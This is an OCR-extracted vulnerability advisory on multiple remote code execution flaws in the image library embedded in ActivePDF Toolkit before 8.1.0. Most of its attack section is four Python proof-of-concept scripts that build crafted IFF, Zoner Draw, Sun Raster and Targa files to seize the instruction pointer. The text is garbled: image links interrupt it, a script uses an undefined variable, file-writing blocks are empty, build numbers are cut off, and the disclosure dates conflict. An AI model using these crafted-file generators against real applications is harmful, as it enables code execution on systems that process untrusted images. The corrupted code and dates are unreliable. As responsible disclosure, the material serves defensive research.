ActivePDF Toolkit Code Execution

ActivePDF Toolkit versions prior to 8.1.0 suffer from multiple code execution vulnerabilities.

MD5 | 63ce9599e9a3f793133d10673c89b97b

ActivePDF Toolkit < 8.1.0 multiple RCE

The ActivePDF Toolkit is a Windows library which enhances business
processes to stamp, stitch, merge, form-fill, add digital signatures,
barcodes to PDF. Both .NET and native APIs are provided. Amongst many
other operations, this library can be used by applications to transform
images to PDF files.

Multiple vulnerabilities were identified in the Pictview image processing
library embedded by the Toolkit and signed by ActivePDF. They could allow
remote attackers to compromise applications relying on the Toolkit to
process untrusted images. Note that, while the example instances hereafter
use aexotica file types, the parser determines the image type from magic
bytes, ignoring file extensions in most cases.Affected versions
ActivePDF Toolkit before 8.1.0 (build

FranASSois Goichon - Google Security Team

ActivePDF Toolkit < multiple RCE

An image processing library embedded in the ActivePDF Toolkit product is
prone to multiple BSS out-of-bound and signedess errors which can yield
direct EIP control by overwriting function pointers, error handling
structures or IAT entries. Note that the affected library does not enable

The following scripts can be used to generate crafted image files which
achieve EIP control when parsed or converted by the ActivePDF Toolkit (e.g.
via the ImageToPDF method), through different root causes. These examples
can be reproduced through both the .NET and native APIs and independently
from file extensions, however the .NET layer will hide the native crashes
and return -1. This may crash the library with a lock on, so only use in
test environments.* Interchange File Format (.iff) and derivates
#!/usr/bin/env python2
# eax=28147510 ebx=00009c1c ecx=28147510 edx=00009c1c esi=28140e90
# eip=41414141 esp=0061f264 ebp=0061f26c iopl=0 nv up ei pl nz na
po nc
# cs=0023 ss=002b ds=002b es=002b fs=0053 gs=002b
# 41414141 ?? ???

from struct import pack


bodycontents = "AAA"
body = "BODY" + pack(">I", len(bodycontents)) + bodycontents
while (len(body) % 2) == 1:
body += "\x00"

base = 0x28147510
payload = pack("<I", base).ljust(0x28151114 - base, "A") + pack("<I", base)cmap = "CMAP" + pack(">I", len(payload)) + payload
while (len(cmap) % 2) == 1:
cmap += "\x00"

outp = header + cmap + body
assert len(outp) >= 0x28

with open("test.iff", "wb") as f:

* Zoner Draw images (.zmf, .zbr)
#!/usr/bin/env python2
# eax=28151110 ebx=0000002e ecx=0000bc28 edx=2813eb10 esi=00000008
# eip=41414141 esp=2814550c ebp=41414141 iopl=0 nv up ei ng nz ac
pe cy
# cs=0023 ss=002b ds=002bes=002b fs=0053 gs=002b
# 41414141 ?? ???

from struct import pack

header = pack("<III", 0x5c, 0xD4015ADD, 0x12345678)
header = header.ljust(9*4) + pack("<I", 0x3c)
header = header.ljust(0x3c)

base = 0x2814550C
payload = '\x00' * (0x28151124 - base) + pack("<I", base) + "A"*8

# can be triggered by multiple formats
header2 = pack("<H", 0x4d42)
header2 = header2.ljust(14) +pack("<I", 50-14)
header2 = header2.ljust(28) + pack("<HI", 0, 0)
header2 = header2.ljust(46) + pack("<I", len(payload)/4 + 1)

outp = header + header2 + payload

with open("test.zmf", "w") as f:

* Sun Raster images (.ras)
#WARNING: Stack pointer is outside the normal stack bounds. Stack unwinding
can be inaccurate.
#eax=28151110 ebx=0000000c ecx=0000fc2d edx=2813eb10 esi=00000008
#eip=41414141 esp=28141504 ebp=41414141 iopl=0 nv up ei ng nz ac pe
#cs=0023 ss=002b ds=002b es=002b fs=0053 gs=002b
#41414141 ?? ???

from struct import packheader = pack(">IIIIIII", 0x59A66A95, 0x100, 1, 8, 0, 2, 1)

base = 0x28141504
payload = "".ljust(0x28151124 - base, "\x00") + pack("<I", base) + "A"*8
outp = header +pack(">I", len(payload)+1) + payload

with open("test.ras", "wb") as f:

* Truevision Targa images (.bpx)
#!/usr/bin/env python2
#eax=28151110 ebx=00000004 ecx=00000008 edx=2813eb10 esi=00000008
#eip=41414141 esp=0061f2a0 ebp=0061f2e8 iopl=0 nv up ei ng nz ac pe
#cs=0023 ss=002b ds=002b es=002b fs=0053 gs=002b
#41414141 ?? ???

from struct import pack

target = 0x2815112C
payload = "AAAA"base = { 3: 0x28147510, 4: 0x2814550c }
align = None
for al in [3, 4]:
if ((target - base[al]) % al) == 0:
align = al
assert align

header = "\x00\x01\x00"
header += pack("<H", (target - base[align])/align)
header += pack("<H", (len(payload)/align)+1)
header += chr(32 if align == 4 else 24)
header = header.ljust(16)
header += chr(1)
header = header.ljust(18)

with open("test.bpx", "wb") as f:
f.write(header + payload)

Upgrade to ActivePDF Toolkit >= 8.1.0 (build, which fixes theproblem by removing the affected image processing library. Note that this
also fixes the similar ZDI-16-354 vulnerability.

For more information and guidance, please contact the ActivePDF support
through their portal (

Disclosure timeline
2017/11/28 - Report sent to ActivePDF support
2017/11/28 - Support acknowledges the issue and confirms that the library
is scheduled to be removed from the product
2018/01/29 - Received notification from the ActivePDF support that the
Pictview image processing library had been removed from ActivePDF in build2017/02/26 - Public disclosure

Related Posts